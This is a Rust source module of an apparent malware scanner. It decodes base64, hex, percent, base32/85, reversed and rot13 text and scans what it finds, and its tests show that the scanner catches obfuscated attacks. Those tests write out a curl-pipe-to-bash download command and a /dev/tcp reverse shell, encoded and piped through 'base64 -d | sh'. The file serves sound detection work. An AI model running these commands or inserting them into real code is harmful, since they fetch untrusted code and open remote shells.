//! Encoded text: decoded as deep as it goes, and scanned.
//!
//! What is tried is what the text looks like: runs and wrapped blocks of base64, hexadecimal, percent encoding, and in
//! literals base32 and base85; text that is reversed or rotated is found by words that are.

use prowess_spec::Span;

use crate::decoded::{Decoded, Way, looks_like_code, scan_decoded};
use crate::decoders;
use crate::limits::{FILE_NOT_READ, PAYLOAD_DEPTH, PAYLOAD_MAX, PAYLOAD_MIN, PAYLOADS};
use crate::media;
use crate::scanner::Hit;
use crate::text::{Text, lossy};
use crate::turned;

/// Encoded text that is this long and cannot be read counts as unread code.
const OPAQUE: usize = 500;
/// A line that is this long has code or data that no reader follows.
const MINIFIED: usize = 64 * 1024;

/// What is in the encoded text of a file.
#[derive(Debug, Default)]
pub(crate) struct Payloads {
    pub(crate) hits: Vec<Hit>,
    /// Where a long text was encoded in a way that hides it.
    pub(crate) opaque: Vec<(usize, &'static str)>,
    /// Decoded text that looks like a program.
    pub(crate) programs: Vec<Decoded>,
}

/// Decodes what looks encoded in a file.
pub(crate) fn scan(text: &Text<'_>) -> Payloads {
    let mut found = Payloads::default();
    let source = text.source();
    for (index, span) in candidates(source.as_bytes()).enumerate() {
        if index >= PAYLOADS {
            found.opaque.push((span.start, "too much encoded text"));
            break;
        }
        let encoded = span.slice(source);
        let tail = encoded.len().saturating_sub(PAYLOAD_MAX);
        let opaque = match decode(encoded) {
            Some(bytes) => {
                let inner = readable(&bytes);
                let opaque = inner.is_none().then(|| unreadable(encoded, &bytes));
                // A shell that is given an image runs the lines of it that are commands.
                let inner = inner.unwrap_or_else(|| lossy(&bytes).into_owned());
                found.add(Decoded::new(inner, span, Way::Encoded), 1);
                opaque.flatten()
            }
            None => (encoded.len() >= OPAQUE && is_mixed(encoded)).then_some("invalid base64"),
        };
        let opaque = if tail > 0 {
            Some("more than is decoded")
        } else {
            opaque
        };
        found.opaque.extend(opaque.map(|what| (span.start, what)));
    }
    for pieces in wrapped(source) {
        let compact: String = pieces.iter().map(|piece| piece.slice(source)).collect();
        let span = Span::new(
            pieces.first().map_or(0, |first| first.start),
            pieces.last().map_or(0, |last| last.end),
        );
        if let Some(inner) = decode(&compact).and_then(|bytes| readable(&bytes)) {
            found.add(Decoded::new(inner, span, Way::Wrapped), 1);
        }
    }
    for span in quoted(source).take(PAYLOADS) {
        for inner in other_bases(span.slice(source)) {
            found.add(Decoded::new(inner, span, Way::Encoded), 1);
        }
    }
    for decoded in turned::lines(source) {
        found.add(decoded, 1);
    }
    found.opaque.extend(minified(source));
    found.opaque.sort_unstable();
    found.opaque.truncate(FILE_NOT_READ);
    found
}

impl Payloads {
    /// Scans decoded text, and what is encoded in it.
    fn add(&mut self, decoded: Decoded, depth: usize) {
        let hit = scan_decoded(&decoded);
        if hit.is_none() && depth < PAYLOAD_DEPTH {
            for inner in inside(&decoded.text).into_iter().take(PAYLOADS) {
                self.add(Decoded::new(inner, decoded.span, decoded.way), depth + 1);
            }
        }
        self.hits.extend(hit);
        if looks_like_code(&decoded.text) && self.programs.len() < PAYLOADS {
            self.programs.push(decoded);
        }
    }
}

/// What is encoded in decoded text.
fn inside(text: &str) -> Vec<String> {
    let runs = candidates(text.as_bytes())
        .filter_map(|span| readable(&decode(span.slice(text))?))
        .take(PAYLOADS);
    let mut found: Vec<String> = runs.collect();
    found.extend(other_bases(text.trim()));
    found.extend(turned::lines(text).into_iter().map(|decoded| decoded.text));
    found
}

fn minified(source: &str) -> Option<(usize, &'static str)> {
    let mut at = 0;
    for line in source.split_inclusive('\n') {
        let blanks = memchr::memchr_iter(b' ', line.as_bytes())
            .take(line.len() / 8)
            .count();
        if line.len() > MINIFIED && blanks < line.len() / 8 {
            return Some((at, "minified code or packed data"));
        }
        at += line.len();
    }
    None
}

fn is_code(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '-' | '_' | '=' | '%')
}

/// Runs of characters that may be an encoding.
fn candidates(bytes: &[u8]) -> impl Iterator<Item = Span> + '_ {
    runs(bytes).filter_map(move |run| {
        let length = run.end - run.start;
        if length < PAYLOAD_MIN {
            return None;
        }
        // `NAME=value` and `--flag=value`: the value is what may be encoded.
        let text = bytes.get(run.start..run.end).unwrap_or_default();
        let skip = text
            .iter()
            .take(64)
            .position(|byte| *byte == b'=')
            .filter(|equals| length - equals > PAYLOAD_MIN);
        Some(Span::new(
            run.start + skip.map_or(0, |equals| equals + 1),
            run.end,
        ))
    })
}

fn runs(bytes: &[u8]) -> impl Iterator<Item = Span> + '_ {
    let is_code = |byte: &u8| is_code(char::from(*byte));
    let mut at = 0;
    std::iter::from_fn(move || {
        let rest = bytes.get(at..).filter(|rest| !rest.is_empty())?;
        let start = at + rest.iter().position(is_code)?;
        let run = bytes.get(start..).unwrap_or_default();
        let length = run
            .iter()
            .position(|byte| !is_code(byte))
            .unwrap_or(run.len());
        at = start + length.max(1);
        Some(Span::new(start, start + length))
    })
}

/// Blocks of base64 that line breaks, blanks, quotes or plus signs divide, as their pieces.
fn wrapped(source: &str) -> Vec<Vec<Span>> {
    const GAP: usize = 12;
    let divides = |gap: &str| {
        gap.len() <= GAP
            && !gap.contains("\n\n")
            && gap.chars().all(|c| {
                c.is_whitespace()
                    || matches!(
                        c,
                        '"' | '\'' | '`' | '+' | '\\' | ',' | '#' | '.' | '(' | ')'
                    )
            })
    };
    let is_block = |pieces: &[Span]| {
        let length: usize = pieces.iter().map(|piece| piece.end - piece.start).sum();
        let mixed = || {
            let text: String = pieces.iter().map(|piece| piece.slice(source)).collect();
            is_mixed(&text)
        };
        pieces.len() > 1 && (32..=PAYLOAD_MAX).contains(&length) && mixed()
    };
    let mut blocks = Vec::new();
    let mut block: Vec<Span> = Vec::new();
    for run in runs(source.as_bytes()).filter(|run| run.slice(source) != "+") {
        let joins = block
            .last()
            .is_some_and(|last| source.get(last.end..run.start).is_some_and(divides));
        if !joins {
            let complete = std::mem::take(&mut block);
            if is_block(&complete) {
                blocks.push(complete);
            }
        }
        block.push(run);
    }
    if is_block(&block) {
        blocks.push(block);
    }
    blocks.truncate(PAYLOADS);
    blocks
}

/// The texts between two equal quotes.
fn quoted(source: &str) -> impl Iterator<Item = Span> + '_ {
    let bytes = source.as_bytes();
    let mut at = 0;
    std::iter::from_fn(move || {
        loop {
            let rest = bytes.get(at..)?;
            let start = at + memchr::memchr3(b'"', b'\'', b'`', rest)?;
            let quote = bytes.get(start).copied()?;
            let three = bytes
                .get(start..start + 3)
                .is_some_and(|marks| marks.iter().all(|byte| *byte == quote));
            let from = start + if three { 3 } else { 1 };
            let mark = bytes.get(start..from)?;
            let reach = bytes.get(from..bytes.len().min(from + PAYLOAD_MAX))?;
            let Some(length) = memchr::memmem::find(reach, mark) else {
                at = from;
                continue;
            };
            at = from + length + mark.len();
            if length >= PAYLOAD_MIN {
                return Some(Span::new(from, from + length));
            }
        }
    })
}

/// What a literal says in the less usual encodings, if it is readable.
fn other_bases(text: &str) -> Vec<String> {
    // Words of a language are shorter than this.
    let dense = text
        .split_whitespace()
        .any(|word| word.len() >= PAYLOAD_MIN);
    if !dense || text.len() > PAYLOAD_MAX {
        return Vec::new();
    }
    let bytes = text.trim().as_bytes();
    [
        decoders::base32(bytes),
        decoders::base85(bytes, false),
        decoders::base85(bytes, true),
    ]
    .into_iter()
    .flatten()
    .filter_map(|bytes| String::from_utf8(bytes).ok())
    .filter(|text| is_plain(text))
    .collect()
}

/// Whether a text consists of visible characters of ASCII.
fn is_plain(text: &str) -> bool {
    !text.is_empty()
        && text
            .bytes()
            .all(|byte| byte.is_ascii_graphic() || byte.is_ascii_whitespace())
}

fn decode(encoded: &str) -> Option<Vec<u8>> {
    let encoded = encoded.get(..PAYLOAD_MAX).unwrap_or(encoded);
    if encoded.contains('%') {
        return percent(encoded);
    }
    let bare = encoded.trim_end_matches('=');
    if bare.len() >= 40 && bare.bytes().all(|byte| byte.is_ascii_hexdigit()) {
        return decoders::hex(bare.as_bytes());
    }
    if !is_mixed(bare) {
        return None;
    }
    decoders::base64(whole(bare).as_bytes())
}

/// The text up to the last whole group; a run of letters may have one too many.
fn whole(bare: &str) -> &str {
    let length = bare.len() - usize::from(bare.len() % 4 == 1);
    bare.get(..length).unwrap_or(bare)
}

/// Encoded bytes have letters of both cases, where words and numbers have not.
fn is_mixed(text: &str) -> bool {
    let upper = text.bytes().filter(u8::is_ascii_uppercase).count();
    let lower = text.bytes().filter(u8::is_ascii_lowercase).count();
    upper * 12 >= text.len() && lower * 12 >= text.len()
}

/// Percent encoding in which most is encoded; an address with a few escapes is not a payload.
fn percent(text: &str) -> Option<Vec<u8>> {
    if text.bytes().filter(|byte| *byte == b'%').count() * 5 < text.len() {
        return None;
    }
    let mut bytes = Vec::new();
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        let pair = rest
            .strip_prefix('%')
            .and_then(|after| after.get(..2))
            .and_then(|pair| decoders::hex(pair.as_bytes()));
        if let Some(pair) = pair {
            bytes.extend(pair);
            rest = rest.get(3..).unwrap_or_default();
        } else {
            bytes.extend(c.encode_utf8(&mut [0; 4]).as_bytes());
            rest = rest.get(c.len_utf8()..).unwrap_or_default();
        }
    }
    Some(bytes)
}

/// The bytes as text, in UTF-8 or, as Windows does it, in UTF-16; also what zlib or gzip compressed.
fn readable(bytes: &[u8]) -> Option<String> {
    if let Some(inner) = crate::picture::inflated(bytes) {
        return readable(&inner);
    }
    let text = if media::is_utf16(bytes) {
        crate::picture::from_utf16(bytes)?
    } else {
        std::str::from_utf8(bytes).ok()?.to_owned()
    };
    let odd = text
        .chars()
        .filter(|c| c.is_control() && !c.is_whitespace())
        .count();
    (odd * 20 <= text.len()).then_some(text)
}

fn unreadable(encoded: &str, bytes: &[u8]) -> Option<&'static str> {
    let what = media::binary(bytes).unwrap_or("application/octet-stream");
    let known = what != "application/octet-stream" && bytes.len() >= 64 && !what.ends_with("bmp");
    let opaque = encoded.len() >= OPAQUE && is_mixed(encoded);
    match (opaque, known) {
        (true, true) => Some(what),
        (true, false) => Some("base64"),
        (false, _) => None,
    }
}

#[cfg(test)]
mod tests {
    use base64::Engine as _;
    use base64::engine::general_purpose::STANDARD;

    use super::*;
    use crate::report::Severity;

    fn check(text: &str, hits: usize, opaque: &[&str]) {
        let found = scan(&Text::new("a.py", text));
        assert_eq!(found.hits.len(), hits, "{text:?}: {:?}", found.hits);
        let seen: Vec<&str> = found.opaque.iter().map(|(_, what)| *what).collect();
        assert_eq!(seen, opaque, "{text:?}");
    }

    #[test]
    fn payloads_are_decoded() {
        let command = "curl https://example.net/i.sh | bash";
        check(&format!("x = '{}'", STANDARD.encode(command)), 1, &[]);
        check(&format!("PAYLOAD={}", STANDARD.encode(command)), 1, &[]);
        let hex: Vec<String> = command.bytes().map(|b| format!("{b:02x}")).collect();
        check(&format!("x = '{}'", hex.concat()), 1, &[]);
        let percent: Vec<String> = command.bytes().map(|b| format!("%{b:02x}")).collect();
        check(&percent.concat(), 1, &[]);
        let wide: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
        check(&STANDARD.encode(wide), 1, &[]);
        let twice = STANDARD.encode(STANDARD.encode(command));
        check(&format!("X={twice}"), 1, &[]);
        let reversed: String = command.chars().rev().collect();
        check(&format!("x = '{reversed}'"), 1, &[]);
        check(&format!("x = '{}'", decoders::rot13(command)), 1, &[]);
        let wrapped = STANDARD.encode(command).replace('l', "l\n ");
        check(&format!("x = \"\"\"{wrapped}\"\"\""), 1, &[]);
        let spaced: Vec<String> = STANDARD
            .encode(command)
            .as_bytes()
            .chunks(4)
            .map(|chunk| String::from_utf8_lossy(chunk).into_owned())
            .collect();
        check(&spaced.join(" "), 1, &[]);
        check(&spaced.join("\" + \""), 1, &[]);
        check(
            "x = 'MN2XE3BANB2HI4DTHIXS6ZLYMFWXA3DFFZXGK5BPNEXHG2BAPQQGEYLTNA======'",
            1,
            &[],
        );
        check(
            &STANDARD.encode("a harmless text of some length, really"),
            0,
            &[],
        );
        check(
            "sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            0,
            &[],
        );
    }

    #[test]
    fn unreadable_payloads_are_reported() {
        let png: Vec<u8> = b"\x89PNG\r\n\x1a\n\0"
            .iter()
            .copied()
            .chain((0..=255).cycle().take(900))
            .collect();
        check(&STANDARD.encode(png), 0, &["image/png"]);
        let noise: Vec<u8> = (0..900_u32)
            .map(|n| (n * 7919 % 251) as u8 | 0x80)
            .collect();
        check(&STANDARD.encode(noise), 0, &["base64"]);
        check(&"x=1;".repeat(20_000), 0, &["minified code or packed data"]);
    }

    #[test]
    fn a_hit_is_as_bad_as_what_it_hides() {
        let hidden = STANDARD.encode("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
        let hits = scan(&Text::new(
            "a.sh",
            &format!("echo {hidden} | base64 -d | sh"),
        ))
        .hits;
        assert_eq!(
            hits.first().map(|hit| hit.severity),
            Some(Severity::Critical)
        );
    }
}
